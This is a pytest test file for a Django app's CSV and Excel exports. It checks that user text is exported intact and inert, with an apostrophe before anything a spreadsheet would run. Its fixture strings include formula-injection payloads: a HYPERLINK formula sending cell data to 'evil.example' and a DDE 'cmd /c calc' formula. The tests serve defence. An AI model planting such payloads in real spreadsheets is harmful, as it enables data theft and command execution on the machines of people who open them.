"""Every export, filled with the nastiest text the app accepts, opens in openpyxl and the csv
module with every value intact (a leading apostrophe on what a spreadsheet would run) and no formula."""

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from core.text import multiline, single_line
from tests.factories import (
    AssignmentFactory,
    K9TeamFactory,
    OperationFactory,
    PledgeFactory,
    RequestFactory,
    VenueFactory,
    accepted_line,
)

pytestmark = pytest.mark.django_db

# Accepted by the validators (checked below), hostile to spreadsheets and to naive CSV code.
NASTY = '=HYPERLINK("http://evil.example/?"&A1,"click") ; ,"quoted" \'x\' Łżń 😀 <b>&amp;'
NASTY_LONG = "@SUM(1+1)\r\n\tsecond line, \"quoted\"; =cmd|'/c calc'!A0 \u2028 end"


def expected(text: str) -> str:
    """What a cell holds: line breaks as LF, an apostrophe before what a spreadsheet would run."""
    text = text.replace("\r\n", "\n")
    return "'" + text if text[:1] in "=+-@\t\r" else text


@pytest.fixture
def nasty_world():
    single_line(NASTY)
    multiline(NASTY_LONG)
    operation = OperationFactory(code="paris-2024")
    request = RequestFactory(operation=operation, country="PL", message=NASTY_LONG, internal_notes=NASTY_LONG)
    pledge = PledgeFactory(
        request=request,
        status="accepted",
        commander_name=NASTY,
        commander_contact="+" + NASTY,
        decision_note=NASTY_LONG,
    )
    line = accepted_line(pledge=pledge)
    team = K9TeamFactory(pledge=pledge, accepted=True, handler_name="-" + NASTY, dog_name=NASTY, dog_breed=NASTY)
    venue = VenueFactory(operation=operation, name=NASTY, address=NASTY)
    AssignmentFactory(pledge_line=line, venue=venue, role=NASTY)
    AssignmentFactory(pledge_line=None, k9_team=team, quantity=None, venue=venue, role="@" + NASTY)
    return pledge


def staff_exports(code):
    return [reverse("request_export", args=[code]), reverse("pledge_export", args=[code]),
            reverse("assignment_export", args=[code])]  # fmt: skip


def csv_values(response) -> list[str]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return [value for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for value in row]


def test_every_staff_export_keeps_nasty_text_intact_and_inert(client, coordinator, nasty_world):
    client.force_login(coordinator)
    written = {NASTY, "+" + NASTY, NASTY_LONG, NASTY, "@" + NASTY, f"-{NASTY} & {NASTY}"}

    for url in staff_exports("paris-2024"):
        csv_found = csv_values(client.get(url, {"format": "csv"}))
        book = load_workbook(io.BytesIO(client.get(url, {"format": "xlsx"}).content))
        xlsx_cells = [cell for row in book.active.iter_rows() for cell in row]

        assert not [c for c in xlsx_cells if c.data_type == "f"], url
        assert [v for v in csv_found if v.startswith(tuple("=+-@\t\r"))] == [], url
        xlsx_found = {c.value for c in xlsx_cells}
        for text in written:
            if expected(text) in csv_found:
                assert expected(text) in xlsx_found, (url, text)
    every_csv = {v for url in staff_exports("paris-2024") for v in csv_values(client.get(url, {"format": "csv"}))}
    assert {expected(text) for text in written} <= every_csv | {expected(f"-{NASTY} & {NASTY}")}
    assert expected(f"-{NASTY} & {NASTY}") in every_csv


def test_the_portal_deployments_export_keeps_nasty_text_intact_and_inert(liaison_pl, nasty_world):
    client = Client()
    client.force_login(liaison_pl)

    found = csv_values(client.get(reverse("portal:deployments_csv")))

    assert {expected(NASTY), expected("@" + NASTY), expected(f"-{NASTY} & {NASTY}")} <= set(found)
    assert [v for v in found if v.startswith(tuple("=+-@\t\r"))] == []


def test_an_old_row_holding_a_control_character_still_exports(client, coordinator, nasty_world):
    nasty_world.__class__.objects.filter(pk=nasty_world.pk).update(commander_name="A\x01B")
    client.force_login(coordinator)

    response = client.get(reverse("pledge_export", args=["paris-2024"]), {"format": "xlsx"})

    assert response.status_code == 200
    assert "A\ufffdB" in {
        c.value for row in load_workbook(io.BytesIO(response.content)).active.iter_rows() for c in row
    }
